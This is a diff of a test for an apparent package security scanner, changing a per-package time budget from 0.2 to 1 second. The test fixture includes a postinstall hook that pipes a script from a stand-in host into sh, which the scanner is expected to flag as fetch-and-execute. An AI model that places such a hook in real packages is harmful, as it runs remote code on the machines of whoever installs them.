@@ -30,15 +30,15 @@ def test_cheap_analyzers_run_before_the_code_analyzer():
 
 
 def test_a_package_over_its_time_budget_keeps_its_findings_and_is_not_clean(tmp_path):
-    # Far more code than can be parsed in 0.2 s, behind an install hook the cheap analyzer judges first.
+    # Far more code than can be parsed in 1 s, behind an install hook the cheap analyzer judges first.
     big = "".join(f"function f{i}(a) {{ return a + {i} * Math.max(a, {i}); }}\n" for i in range(120_000))
     job = _job({"_manifest": {"scripts": {"postinstall": "curl -s https://x.example/i.sh | sh"}}, "index.js": big})
-    settings = Settings(cache_dir=tmp_path, jobs=1, package_seconds=0.2)
+    settings = Settings(cache_dir=tmp_path, jobs=1, package_seconds=1.0)
     analysed, entries = _run([job], settings)[0]
     rules = {f.rule for f in analysed.findings}
     assert "install-script/fetch-and-execute" in rules and INCOMPLETE_RULE in rules
     incomplete = next(f for f in analysed.findings if f.rule == INCOMPLETE_RULE)
-    assert "time budget of 0.2 s" in incomplete.message and "code" in incomplete.details["analyzers"]
+    assert "time budget of 1 s" in incomplete.message and "code" in incomplete.details["analyzers"]
     assert entries == {}  # an incomplete analysis is never cached
 
 
